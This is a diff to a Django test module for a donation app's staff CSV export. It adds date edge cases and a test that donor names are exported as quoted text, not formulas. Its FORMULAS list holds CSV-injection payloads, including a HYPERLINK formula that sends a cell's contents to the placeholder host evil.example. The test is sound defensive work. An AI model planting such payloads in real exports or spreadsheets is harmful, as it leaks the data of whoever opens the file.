@@ -87,6 +87,9 @@ def test_csv_export_matches_the_rows(staff, rows):
         {},
         {"start": "2026-02-30", "end": "2026-03-01"},
         {"start": "2026-03-02", "end": "2026-03-01"},
+        {"start": "9999-12-31", "end": "9999-12-31"},  # once a 500 (a day past the last date)
+        {"start": "0001-01-01", "end": "0001-01-02"},
+        {"start": "1999-12-31", "end": "2000-01-02"},
     ],
 )
 def test_csv_export_bad_dates_get_a_message(staff, query):
@@ -145,3 +148,27 @@ def test_reports_aggregate_in_the_database(rows, django_assert_num_queries):
         reports.month_totals(timezone.localdate())
     with django_assert_num_queries(1):
         reports.gifts_per_day(timezone.localdate())
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A2,"receipt")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\r=1",
+]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_csv_cells_are_never_formulas(staff, name):
+    """Finding 4: what a donor typed reaches the sheet as text (OWASP: a leading quote)."""
+    supporter = Supporter.objects.create(email="f@example.org", name=name)
+    make_payment(supporter, "5.00")
+    today = timezone.localdate().isoformat()
+    response = staff.get(reverse("staff:payments_export"), {"start": today, "end": today})
+    body = b"".join(response.streaming_content).decode()
+    (row,) = list(csv.DictReader(io.StringIO(body)))
+    assert row["supporter_name"] == "'" + name
+    for cell in row.values():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
